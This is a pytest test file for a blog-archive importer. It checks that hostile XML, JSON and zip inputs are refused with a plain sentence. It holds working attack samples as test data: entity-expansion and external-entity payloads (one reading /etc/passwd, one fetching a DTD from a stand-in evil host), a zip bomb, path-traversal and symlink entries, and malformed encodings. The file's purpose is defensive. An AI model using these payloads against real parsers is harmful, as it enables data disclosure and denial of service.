"""A hostile archive is refused with a sentence, before it costs anything."""

import io
import json
import struct
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hearten_archives import LIMITS, Limits, Refused, open_archive, read
from tests.archives import written as w

ITEM = w.wxr_item(1, title="A", text="a")


def refused(data: bytes, limits: Limits = LIMITS) -> str:
    with pytest.raises(Refused) as found, open_archive(io.BytesIO(data), limits=limits) as archive:
        for _ in archive.posts():
            pass
    sentence = found.value.sentence
    assert sentence[0].isupper() or sentence[0] == "“"
    assert sentence.endswith(".")
    return sentence


BILLION = (
    '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    "<rss><channel><item><title>&b;</title></item></channel></rss>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE rss SYSTEM "file:///etc/passwd"><rss><channel/></rss>'
FETCH = '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]><rss><channel/></rss>'


@pytest.mark.parametrize("text", [BILLION, OUTSIDE, FETCH])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_definitions_of_its_own_are_refused(text: str, encoding: str) -> None:
    assert "DOCTYPE" in refused(text.encode(encoding))


def test_an_entity_nobody_declared_is_refused() -> None:
    assert "damaged near line" in refused(b"<rss><channel><item><title>&nope;</title></item></channel></rss>")


def test_a_zip_bomb_is_refused_before_it_unfolds() -> None:
    bomb = w.zipped({"blog.xml": b"<rss>" + b" " * 60_000_000})
    assert len(bomb) < 100_000
    tracemalloc.start()
    assert "unfold" in refused(bomb)
    assert tracemalloc.get_traced_memory()[1] < 5_000_000
    tracemalloc.stop()


def test_a_zip_that_lies_about_its_sizes_is_damaged() -> None:
    honest = w.zipped({"a.md": b"words " * 500_000})
    size = struct.pack("<L", 3_000_000)
    lying = honest.replace(size, struct.pack("<L", 1000))
    assert lying != honest
    assert "damaged" in refused(lying)


@pytest.mark.parametrize(
    "name",
    ["../outside.md", "/etc/cron.d/x.md", "a/../../b.md", "C:/x.md", "a\\..\\b.md", "/".join("d" * 30) + ".md"],
)
def test_names_that_lead_elsewhere_are_refused(name: str) -> None:
    assert "lead out of it" in refused(w.zipped({"good.md": "x", name: "y"}))


def test_a_link_in_a_zip_is_refused() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        link = zipfile.ZipInfo("a.md")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    assert "lead out of it" in refused(made.getvalue())


def test_a_locked_zip_is_refused() -> None:
    data = bytearray(w.zipped({"a.md": "x"}))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + at] |= 1
    assert "password" in refused(bytes(data))


def test_too_many_files_and_too_much_in_all() -> None:
    data = w.zipped({f"{number}.md": "x" * 100 for number in range(30)})
    assert "more than 20 files" in refused(data, Limits(members=20))
    assert "larger than" in refused(data, Limits(unpacked=2999))


def test_a_zip_in_a_zip_is_never_opened() -> None:
    inner = w.zipped({"a.md": "inner"})
    with open_archive(io.BytesIO(w.zipped({"b.md": "outer", "more.zip": inner}))) as archive:
        assert [post.text for post in archive.posts()] == ["outer"]


def test_two_hundred_megabytes_of_text_are_refused_by_their_size_alone(tmp_path: Path) -> None:
    file = tmp_path / "blog.xml"
    with file.open("wb") as out:
        out.write(w.WXR_HEAD.encode())
        out.truncate(200 * 1024 * 1024)
    with pytest.raises(Refused, match="200 MB or more"):
        next(read(file))


@pytest.mark.parametrize("data", [w.wxr([ITEM] * 50), w.ghost([w.ghost_post(1, html="<p>x</p>")] * 50)])
def test_a_document_over_its_limit_is_refused_while_it_is_read(data: bytes) -> None:
    packed = w.zipped({"blog.xml" if data[:1] == b"<" else "blog.json": data})
    assert "in parts" in refused(packed, Limits(document=len(data) - 1))


def test_one_endless_post_is_refused() -> None:
    long = w.wxr([w.wxr_item(1, title="A", text="x" * 5000)])
    assert "Post number 1 " in refused(long, Limits(record=4000))
    row = w.ghost([w.ghost_post(1, html="x" * 5000)])
    assert "longer than a book" in refused(row, Limits(record=4000))
    many = b"<rss><channel><item>" + b"<a/>" * 5000
    assert "longer than a book" in refused(many, Limits(record=4000))


def test_endless_depth_is_refused() -> None:
    assert "nested" in refused(b"<rss>" + b"<a>" * 500)
    assert "nested" in refused(b'{"db":' + b"[" * 500)
    assert "nested" in refused(b'{"posts":[{"x":' + b"[" * 5000 + b"]" * 5000 + b"}]}")


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="utf-8"?><rss><channel><item><title>S\xf8vn</title></item></channel></rss>',
        b'<?xml version="1.0" encoding="klingon"?><rss><channel></channel></rss>',
        b'<?xml version="1.0" encoding="zlib"?><rss><channel></channel></rss>',
        '{"db": [{"data": {"posts": [{"title": "S\xf8vn"}]}}]}'.encode("latin-1"),
        w.zipped({"a.md": "S\xf8vn".encode("latin-1")}),
    ],
)
def test_a_wrong_encoding_is_refused_and_utf8_is_named(data: bytes) -> None:
    assert "UTF-8" in refused(data)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        w.wxr([ITEM])[:-40],
        w.ghost([w.ghost_post(1, html="<p>x</p>")])[:-9],
        b'{"posts": [}]}',
        b'{"posts": [{"a": 01}]}',
        w.zipped({"a.md": "words " * 500})[:-30],
    ],
)
def test_what_is_cut_or_broken_is_refused(data: bytes) -> None:
    assert refused(data)


def test_a_file_deep_in_numbers_is_refused() -> None:
    assert refused(b'{"posts": [{"id": ' + b"9" * 5000 + b"}]}")


KINDS = {
    "wordpress": w.wxr([ITEM, ITEM]),
    "ghost": w.ghost([w.ghost_post(1, html="<p>x</p>")]),
    "feed": w.rss([w.episode(1)]),
}
ARCHIVES = [
    *KINDS.values(),
    w.zipped({"a.md": "---\ntitle: x\n---\nwords"}),
    w.zipped({"b.xml": KINDS["wordpress"]}),
]


@settings(max_examples=80, deadline=None)
@given(st.sampled_from(ARCHIVES), st.data())
def test_no_damage_makes_it_say_anything_but_a_sentence(whole: bytes, luck: st.DataObject) -> None:
    at = luck.draw(st.integers(0, len(whole) - 1))
    broken = whole[:at] + luck.draw(st.binary(max_size=6)) + whole[at + luck.draw(st.integers(0, 6)) :]
    try:
        with open_archive(io.BytesIO(broken)) as archive:
            list(archive.posts())
    except Refused as answer:
        assert answer.sentence  # noqa: PT017  # most damage is refused, some is harmless


def test_a_sentence_never_quotes_the_archive() -> None:  # I27
    secret = "My client Berit"
    for data in (w.wxr([w.wxr_item(1, title=secret, text=secret)])[:-30], w.ghost([{"id": secret}])[:-4]):
        assert "Berit" not in refused(data)


def test_rows_of_other_tables_are_passed_over_whatever_they_hold() -> None:
    data = {
        "db": [{"data": {"settings": [{"value": '{"posts": [{"id": 1}]}'}], "posts": [{"id": "1", "html": "x"}]}}]
    }
    with open_archive(io.BytesIO(json.dumps(data).encode())) as archive:
        assert [post.text for post in archive.posts()] == ["x"]


def test_half_letters_and_null_letters_become_harmless() -> None:
    data = rb'{"posts": [{"id": "1\ud800", "title": "a\ud83dz\u0000", "html": "x"}]}'
    files = w.zipped({"a.md": b"x\x00y"})
    for archive, text in ((data, "x"), (files, "xy")):
        with open_archive(io.BytesIO(archive)) as opened:
            (post,) = opened.posts()
            assert post.text == text
            (post.guid + post.title + post.text).encode()
            assert "\0" not in post.title + post.text
